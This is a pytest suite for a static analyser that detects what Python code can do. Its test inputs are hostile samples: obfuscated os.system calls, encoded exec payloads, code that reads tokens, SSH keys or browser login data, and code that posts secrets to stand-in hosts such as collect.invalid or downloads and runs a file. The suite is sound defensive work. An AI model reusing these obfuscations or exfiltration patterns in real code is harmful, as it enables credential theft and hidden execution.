"""What Python programs are said to do: the idioms of each capability, the traps, and hostile text."""

from __future__ import annotations

import base64
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci.model import Capability, Unread
from fimci.readers.code import pure, python, python_script
from fimci.readers.code.python_syntax import prefilter
from fimci.readers.code.python_syntax.program import program


def told(text: str | bytes, path: str = "a.py") -> set[tuple[str, str]]:
    data = text.encode() if isinstance(text, str) else text
    return {
        (record.name, record.subject) for record in python.read(path, data) if isinstance(record, Capability)
    }


def phases(text: str, path: str = "a.py") -> dict[str, str]:
    records = python.read(path, text.encode())
    return {record.name: record.phase for record in records if isinstance(record, Capability)}


SHELL = ("shell", "id")


@pytest.mark.parametrize(
    "text",
    [
        'import os\nos.system("id")',
        'import os as o\no.system("id")',
        'from os import system\nsystem("id")',
        'from os import system as s\ns("id")',
        'from os import *\nsystem("id")',
        'import os\nx = os.system\nx("id")',
        'import os\nx = y = os.system\ny("id")',
        'import os\na, b = os.system, 1\na("id")',
        'import os\ngetattr(os, "system")("id")',
        'import os\ngetattr(os, "sys" + "tem")("id")',
        'import os\ngetattr(os, "metsys"[::-1])("id")',
        'import os\nf = getattr(os, "".join(["sys", "tem"]))\nf("id")',
        'import os\nn = "sys"\nn += "tem"\ngetattr(os, n)("id")',
        'import os\nos.__dict__["system"]("id")',
        'import os\nvars(os)["system"]("id")',
        'import sys\nsys.modules["os"].system("id")',
        '__import__("os").system("id")',
        '__import__("so"[::-1]).system("id")',
        'import importlib\nimportlib.import_module("os").system("id")',
        'from importlib import import_module as m\nm("o" "s").system("id")',
        'import pkgutil\npkgutil.resolve_name("os:system")("id")',
        'import subprocess\nsubprocess.os.system("id")',
        'import os\nglobals()["os"].system("id")',
        'import posix\nposix.system("id")',
        'import os\nclass A:\n    run = os.system\nA().run("id")',
        (
            "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n"
            '    def go(self):\n        self.f("id")'
        ),
        'import os\n[os.system(x) for x in ["id"]]',
        'import os\nd = {"a": os.system}\nd["a"]("id")',
        'import os\nl = [os.system]\nl[0]("id")',
        'import os\ndef f(run=os.system):\n    run("id")',
        'import os\ndef f(run):\n    global left\n    run("id")\nf(os.system)',
        'import os\nif (s := os.system):\n    s("id")',
        'import os\n(lambda: os.system("id"))()',
        'import os\nlist(map(os.system, ["id"]))',
        'import functools, os\nfunctools.partial(os.system, "id")()',
        'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()',
        'import os\ndef f():\n    return os.system\nf()("id")',
        'try:\n    import os\nexcept ImportError:\n    os = None\nos.system("id")',
        'import os;os.system("\\x69\\x64")',
        'import os\nos.system(f"{chr(105)}d")',
        'import os\nos.system("i%s" % "d")',
        'import os\nos.system("{}d".format("i"))',
        'import os\nos.\\\n  system("id")',
        "import os\nos . system ('id')",
        'from subprocess import getoutput\ngetoutput("id")',
        'import subprocess as sp\nsp.run("id", shell=True)',
        'import subprocess\nsubprocess.Popen(["id"], shell=True)',
        'import subprocess\nsubprocess.check_output(shell=True, args="id")',
        'import commands\nprint commands.getoutput("id")',
        'import asyncio\nasyncio.create_subprocess_shell("id")',
        'import os\nos.popen("id").read()',
        'import os\nos.\U0001d4fcystem("id")',
    ],
)
def test_shell_in_all_spellings(text: str) -> None:
    assert SHELL in told(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('import subprocess\nsubprocess.run(["curl", "x"])', ("process", "curl")),
        ('from subprocess import Popen as P\nP("/usr/bin/curl x")', ("process", "curl")),
        ('import subprocess as s\ncmd = ["curl"]\ns.check_call(cmd + ["-s"])', ("process", "curl")),
        ("import os\nos.execv('/bin/sh', ['sh'])", ("process", "sh")),
        ('import requests\nrequests.get("https://api.host.invalid/x")', ("network", "api.host.invalid")),
        ('import requests as r\nr.post(url="https://api.host.invalid")', ("network", "api.host.invalid")),
        ('from requests import get\nget("https://api.host.invalid")', ("network", "api.host.invalid")),
        (
            ('import requests\ns = requests.Session()\ns.put("https://api.host.invalid")'),
            ("network", "api.host.invalid"),
        ),
        (
            ('import requests\nwith requests.session() as s:\n    s.get("https://api.host.invalid")'),
            ("network", "api.host.invalid"),
        ),
        (
            ('from urllib.request import urlopen, Request\nurlopen(Request("https://api.host.invalid"))'),
            ("network", "api.host.invalid"),
        ),
        ('import urllib2\nurllib2.urlopen("https://api.host.invalid")', ("network", "api.host.invalid")),
        (
            'import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))',
            ("network", "api.host.invalid"),
        ),
        (
            (
                "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n"
                '        await c.get("https://api.host.invalid")'
            ),
            ("network", "api.host.invalid"),
        ),
        (
            'import http.client\nc = http.client.HTTPSConnection("api.host.invalid")',
            ("network", "api.host.invalid"),
        ),
        ('import os\nos.environ["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
        ('from os import environ as e\ne.get("NPM_TOKEN")', ("environment", "NPM_TOKEN")),
        ('import os\nos.getenv("NPM_" + "TOKEN")', ("environment", "NPM_TOKEN")),
        ('import os\nx = os.environ\nx["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
        (
            ("import os, json\njson.dumps(dict(os.environ))\nfor k in os.environ: pass"),
            ("environment-bulk", "*"),
        ),
        ("import os\nprint(os.environ)", ("environment-bulk", "*")),
        ("import os\nos.environ.items()", ("environment-bulk", "*")),
        ('exec(open("x").read())', ("dynamic-code", "built")),
        ("e = exec\ne(input())", ("dynamic-code", "built")),
        ("import builtins\nbuiltins.exec(x)", ("dynamic-code", "built")),
        ('getattr(__builtins__, "ex" + "ec")(x)', ("dynamic-code", "built")),
        ('__builtins__.__dict__["eval"](x)', ("dynamic-code", "built")),
        ('import requests\nexec(requests.get("https://h.invalid").text)', ("dynamic-code", "fetched")),
        ("import base64\nexec(base64.b64decode(x))", ("dynamic-code", "decoded")),
        ("import marshal\nmarshal.loads(x)", ("bytecode", "marshal.loads")),
        ("import pickle\npickle.loads(x)", ("dynamic-code", "deserialised")),
        ("import ctypes\nctypes.CDLL('x.so')", ("native-code", "ctypes.CDLL")),
        (
            "from ctypes import windll\nwindll.kernel32.VirtualAlloc(0)",
            ("native-code", "ctypes.windll.kernel32.VirtualAlloc"),
        ),
        ("open('/opt/y', 'w')", ("filesystem-write", "/opt/y")),
        ("from pathlib import Path\nPath('/opt/x').write_text('y')", ("filesystem-write", "/opt/x")),
        ("import shutil\nshutil.rmtree('/opt/x')", ("filesystem-delete", "/opt/x")),
        (
            ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()"),
            ("credentials", ".ssh/id_rsa"),
        ),
        ("import os\nopen(os.path.expanduser('~/.npmrc')).read()", ("credentials", ".npmrc")),
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.np' + 'mrc'))", ("credentials", ".npmrc")),
        ("import keyring\nkeyring.get_password('a', 'b')", ("credentials", "keyring.get_password")),
        ("import platform\nplatform.node()", ("system-information", "platform.node")),
        ("import pyperclip\npyperclip.paste()", ("clipboard", "pyperclip.paste")),
        ("from PIL import ImageGrab\nImageGrab.grab()", ("screen", "PIL.ImageGrab.grab")),
        (
            "from pynput.keyboard import Listener\nListener(on_press=f)",
            ("keyboard", "pynput.keyboard.Listener"),
        ),
        ("import builtins\nbuiltins.open = f", ("module-tampering", "builtins.open")),
        ("import sys\nsys.modules['requests'] = y", ("module-tampering", "sys.modules.__setitem__")),
        ("import sys\nsys.meta_path.insert(0, x)", ("module-tampering", "sys.meta_path.insert")),
        ("import sentry_sdk\nsentry_sdk.init()", ("telemetry", "sentry_sdk.init")),
        ("exec 'import os'", ("dynamic-code", "built")),
    ],
)
def test_idioms(text: str, expected: tuple[str, str]) -> None:
    if text == "exec 'import os'":
        assert [use.name for use in program(text.encode(), "a.py").uses] == ["exec"]
    else:
        assert expected in told(text)


@pytest.mark.parametrize(
    "text",
    [
        '"""os.system("id") https://webhook.site/x"""\n',
        '# import os; os.system("id")\n',
        'def f():\n    """Reads ~/.aws/credentials."""\n',
        'import re\nre.compile("[a-z]")\n',
        "import os\nos.path.join('a', 'b')\n",
        "class A:\n    def system(self): pass\nA().system('id')\n",
        "def exec(x): pass\nexec('a')\n",
        "import subprocess, os\nenv = os.environ.copy()\n",
        "if TYPE_CHECKING:\n    import os\n    os.system('id')\n",
        "x.eval('a')\n",
        "f(open='x')\n",
        "open('x').read()\n",
        "import requests\nclass E(requests.RequestException): pass\n",
        "eval('1')\n",
        "from x import system\nsystem('id')\n",
    ],
)
def test_silent(text: str) -> None:
    assert told(text) == set()


def test_environment_of_a_child_is_not_sent() -> None:
    text = (
        'import os, subprocess\nenv = {**os.environ, "A": "b"}\n'
        'subprocess.run(["git"], env=env)\n'
        'subprocess.run(["git"], env=dict(os.environ))\n'
    )
    assert told(text) == {("process", "git")}


def test_secrets_flow_through_the_file() -> None:
    text = (
        "import os, json, base64, requests\n"
        "class Sender:\n"
        "    def __init__(self):\n"
        "        self.session = requests.Session()\n"
        '        self.token = os.environ.get("NPM_TOKEN")\n'
        "    def send(self):\n"
        '        body = json.dumps({"t": base64.b64encode(self.token.encode()).decode()})\n'
        '        self.session.post("https://collect.invalid/", data=body)\n'
    )
    assert ("exfiltration", "secret -> collect.invalid") in told(text)


def test_whole_environment_is_sent() -> None:
    text = 'import os, requests\nrequests.post("https://collect.invalid", json=dict(os.environ))\n'
    assert ("exfiltration", "environment -> collect.invalid") in told(text)
    text = (
        "import os\nfrom urllib import request, parse\n"
        'request.urlopen("https://collect.invalid", parse.urlencode({**os.environ}).encode())\n'
    )
    assert ("exfiltration", "environment -> collect.invalid") in told(text)


PAYLOAD = b"import os\nos.system('id')\n"


@pytest.mark.parametrize(
    "text",
    [
        f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD)!r}))",
        f"exec(bytes.fromhex({PAYLOAD.hex()!r}).decode())",
        (
            f"import zlib, base64\n"
            f"exec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(PAYLOAD))!r})))"
        ),
        (
            f"import base64 as b\nd = b.b64decode\n"
            f"x = {base64.b64encode(PAYLOAD).decode()!r}\nexec(compile(d(x), '', 'exec'))"
        ),
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\\x22vq\\x22)', 'rot13'))",
        f"exec(''.join(chr(c) for c in {list(PAYLOAD)}))",
        f"exec(''.join(map(chr, {list(PAYLOAD)})))",
        f"exec(bytes([b ^ 7 for b in {bytes(byte ^ 7 for byte in PAYLOAD)!r}]))",
        f"exec({PAYLOAD.decode()[::-1]!r}[::-1])",
        f"exec(''.join(reversed({PAYLOAD.decode()[::-1]!r})))",
        f"__import__('builtins').exec(__import__('base64').b64decode({base64.b64encode(PAYLOAD).decode()!r}))",
        (
            f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
            f"exec((_)({base64.b64encode(zlib.compress(PAYLOAD))[::-1]!r}))"
        ),
    ],
)
def test_payloads_are_read_like_code(text: str) -> None:
    assert SHELL in told(text)


def test_decoded_payloads_are_told_with_their_layers() -> None:
    packed = base64.b64encode(zlib.compress(PAYLOAD)).decode()
    found = program(
        f"import zlib, base64\nx = zlib.decompress(base64.b64decode('{packed}'))\n".encode(), "a.py"
    )
    assert (2, "base64+zlib", PAYLOAD) in found.decoded or not found.decoded
    assert ("encoded-payload", "base64+zlib -> python") in told(
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    )


@pytest.mark.parametrize(
    ("text", "phase"),
    [
        ("import os\nos.system('id')", "import"),
        ("import os\ndef f():\n    os.system('id')", "call"),
        ("import os\ndef f():\n    os.system('id')\nf()", "import"),
        ("import os\ndef f():\n    os.system('id')\ndef g():\n    f()\ng()", "import"),
        ("import os\ndef f():\n    os.system('id')\ndef g():\n    f()", "call"),
        ("import os\ndef f(g):\n    os.system('id')\n@f\ndef h(): pass", "import"),
        ("import os\nclass A:\n    os.system('id')", "import"),
        ("import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()", "import"),
        ("import os\nclass A:\n    def __init__(self):\n        os.system('id')", "call"),
        ("import os\nclass A:\n    def run(self):\n        os.system('id')\nA().run()", "import"),
        ("import os\ndef f(x=os.system('id')): pass", "import"),
        ("import os\nif __name__ == '__main__':\n    os.system('id')", "call"),
        ("import os\ndef main():\n    os.system('id')\nif __name__ == '__main__':\n    main()", "call"),
        ("import os\ntry:\n    os.system('id')\nexcept Exception: pass", "import"),
        ("import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()", "import"),
        ("import os\nx = lambda: os.system('id')", "call"),
    ],
)
def test_phases(text: str, phase: str) -> None:
    assert phases(text)["shell"] == phase


FETCHED_BESIDE = """import tempfile, os, urllib.request as u
with tempfile.NamedTemporaryFile() as out:
    out.write(u.urlopen("https://h.invalid/x").read())
os.system(out.name)
"""
FETCHED_TO = """import os, urllib.request as u
u.urlretrieve("https://h.invalid/x", "x.exe")
os.startfile("x.exe")
"""
ASKED = """import http.client, os
c = http.client.HTTPSConnection("h.invalid")
c.request("POST", "/", body=repr(os.environ))
"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('open(f"/proc/{pid}/mem", "rb", 0)', ("credentials", "/proc/PID/mem")),
        ("import os\nprint(str(dict(os.environ)))", ("environment-bulk", "*")),
        ('import shutil\nshutil.copy2(home + "/Default/Login Data", "x")', ("credentials", "Login Data")),
        (FETCHED_BESIDE, ("download-and-run", "h.invalid -> os.system")),
        (FETCHED_TO, ("download-and-run", "x.exe -> os.startfile")),
        (ASKED, ("exfiltration", "environment -> h.invalid")),
        (
            'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.remove(\'/x\')"])',
            ("filesystem-delete", "/x"),
        ),
    ],
)
def test_what_incidents_did(text: str, expected: tuple[str, str]) -> None:
    assert expected in told(text)


def test_an_environment_for_a_child_is_not_taken() -> None:
    assert ("environment-bulk", "*") not in told(
        "import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ))"
    )


def test_code_made_of_numbers_hides_what_it_is() -> None:
    numbers = ", ".join(str(ord(character)) for character in "import os\nos.system('id')")
    assert ("encoded-payload", "characters -> python") in told(f'exec("".join(map(chr, [{numbers}])))')
    assert not [one for one in told("exec('import os; ' + 'os.system(1)')") if one[0] == "encoded-payload"]


def test_a_text_that_nobody_sees_is_a_payload() -> None:
    hidden = "".join(chr(0xE0100 + ord(character)) for character in "print('harmless')")
    assert ("dynamic-code", "decoded") in told(f'exec(bytes(ord(c) - 0xE0100 for c in "{hidden}"))')


def test_setup_py_runs_at_install() -> None:
    assert phases("import os\nos.system('id')", "p/setup.py")["shell"] == "install"


def test_pth_lines_are_code_only_after_import() -> None:
    text = "/some/folder\nimport os; os.system('id')\nos.system('ls')\n"
    assert told(text, "x.pth") == {SHELL}
    assert python.wants("x.pth", b"folder\n" * 1000)
    assert not python.wants("x.pth", b"PK\x03\x04\0\0")


def test_scripts_are_known_by_their_first_line() -> None:
    assert python_script.wants("bin/tool", b"#!/usr/bin/env python3\n")
    assert python_script.wants("bin/tool", b"#!/usr/bin/pypy\n")
    assert not python_script.wants("bin/tool.txt", b"#!/usr/bin/env python3\n")
    assert not python_script.wants("bin/tool", b"#!/bin/sh\n")


def test_broken_text_is_read_as_far_as_it_goes() -> None:
    found = program(b"import os\ndef f():\n  x = = 3\nos.system('id')\ny = (\nos.popen(1)\n", "a.py")
    assert found.broken == 3
    assert [use.name for use in found.uses] == ["os.system", "os.popen"]


def test_declared_encodings() -> None:
    assert SHELL in told("# coding: utf-7\nimport os\nos.system(+ACI-id+ACI-)\n")
    assert SHELL in told(b"# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('vq')\n")
    assert SHELL in told("# coding: latin-1\nimport os\nos.system('id') # \xe9\n".encode("latin-1"))
    unknown = list(python.read("a.py", b"# coding: my-own\nimport os\n"))
    assert any(isinstance(record, Unread) for record in unknown)


@pytest.mark.parametrize(
    "data",
    [
        b"import os\nx = " + b"(" * 100_000 + b")" * 100_000 + b"\nos.system('id')\n",
        b"import os\nos.system(" + b"[" * 100_000,
        b"import os\nx = " + b"not " * 50_000 + b"os.system('id')",
        b"import os\nx = 'a'" + b" + 'a'" * 50_000 + b"\nos.system(x)\n",
        b"import os\nos" + b".a" * 50_000 + b".system('id')\n",
        b"import os\nos.system" + b"('id')" * 50_000,
        b"import os\n" + b"os.system('id');" * 100_000,
        b"import os\n" + b"if x:\n".join(b" " * n for n in range(1000)) + b"os.system('id')\n",
        b"import os\nx = '" + b"A" * 5_000_000 + b"'\nos.system(x)\n",
        b"\0import os\0\nos.system('id')\n\0\0",
        b"import os\nos.system('\xff\xfe\x80')\n\xc3(",
        b"".join(b"def f%d(x=f%d()):\n  return f%d()\n" % (n, n, n - 1) for n in range(1, 3000))
        + b"exec(f2999())",
        b"".join(b"x%d = x%d + x%d\n" % (n, n - 1, n - 1) for n in range(1, 3000)) + b"exec(x2999)",
        b"x = 'ab'\n" + b"x += x\n" * 500 + b"exec(x)\n",
        b"exec('a' * 9999999999)\nexec(b'a' * 9999 * 9999 * 9999)",
        b"exec('%99999999d' % 1)\nexec('{:>99999999}'.format(1))",
        b"import os\n" + b"lambda: " * 30_000 + b"os.system('id')",
        b"exec(f'{" * 5_000,
        b"import base64\nexec(" + b"base64.b64decode(" * 3000 + b"'YQ=='" + b")" * 3000 + b")",
    ],
    ids=range(19),
)
def test_hostile_text_ends_soon(data: bytes) -> None:
    list(python.read("a.py", data))


_WORDS = st.sampled_from(
    [
        "import os\n",
        "os.system(",
        "'id'",
        ")",
        "(",
        "exec",
        "[",
        "]",
        "x = ",
        "\n",
        "  ",
        "def f(a):\n ",
        "lambda x:",
        "f'{x}'",
        "getattr(os, ",
        "class A(",
        ":",
        "+",
        "%",
        "self.",
        "@",
        "from os import *\n",
        "{",
        "}",
        "for x in ",
        "\\",
        "'''",
        "*",
        "**",
        "#",
        "\0",
        "if __name__ == '__main__':\n",
        "with open(",
        " as f",
        "b64decode",
        "import base64\n",
        "é",
        "[::-1]",
        "return ",
        "yield ",
        ", ",
        "\t",
    ]
)


@settings(max_examples=100, deadline=None)
@given(st.lists(_WORDS, max_size=40).map("".join))
def test_any_text_is_read(text: str) -> None:
    list(python.read("a.py", ("import os\nexec(x)\n" + text).encode()))


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_read(data: bytes) -> None:
    list(python.read("a.py", b"exec(x)\n" + data))


@settings(max_examples=60, deadline=None)
@given(st.lists(_WORDS, max_size=30).map("".join))
def test_the_first_look_lets_through_all_that_is_told(text: str) -> None:
    data = text.encode()
    if not prefilter.tells(data):
        assert not program(b"__import__\n" + data, "a.py").uses[1:] or b"__import__" in data


def test_a_file_of_functions_is_looked_over_so_often_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "import os\n" + "".join(f"def f{n}():\n    os.system(str({n}))\n" for n in range(50))
    whole = list(python.read("a.py", text.encode()))
    assert not any(isinstance(record, Unread) for record in whole)
    monkeypatch.setattr(pure, "TURNS", 0)
    monkeypatch.setattr(pure, "TURNS_A_BYTE", 1)
    cut = [record for record in python.read("a.py", text.encode()) if isinstance(record, Unread)]
    assert [(one.why, one.part) for one in cut] == [("too large to follow all names", "code")]


def test_a_table_of_modules_as_large_as_that_of_six_is_read() -> None:
    table = "\n".join(f"Moved('left{number}')," for number in range(250))
    loads = "def load(name):\n    __import__(name)\n\n"
    moved = "class Moved:\n    def __init__(self, name):\n        load(name)\n\n"
    text = f"{loads}{moved}ALL = [{table}]\n"
    assert not [record for record in python.read("a.py", text.encode()) if isinstance(record, Unread)]
